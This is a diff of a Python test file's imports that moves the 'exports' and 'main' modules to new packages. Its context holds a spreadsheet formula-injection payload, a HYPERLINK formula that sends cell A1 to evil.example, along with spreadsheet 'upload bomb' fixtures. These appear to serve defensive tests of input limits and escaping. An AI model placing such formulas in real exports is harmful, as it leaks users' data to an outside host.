@@ -14,11 +14,10 @@ import json
 import pytest
 from openpyxl import Workbook, load_workbook
 
-import exports
 from bench.upload_bomb import xlsx_rows_bomb as _rows_bomb
 from bench.upload_bomb import xlsx_wide_bomb, xlsx_with_sheet
+from cli.main import main
 from model import limits
-from model.__main__ import main
 from model.cells import csv_text, csv_unescape
 from model.history import DEFAULT_HISTORY_PATH, canonical_history, parse_history
 from model.scenario import format_number, parse_scenario
@@ -28,6 +27,7 @@ from model.template import (
     read_table,
     write_template,
 )
+from report import exports
 
 xlsx_rows_bomb = functools.cache(_rows_bomb)  # built once for the tests that use it
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
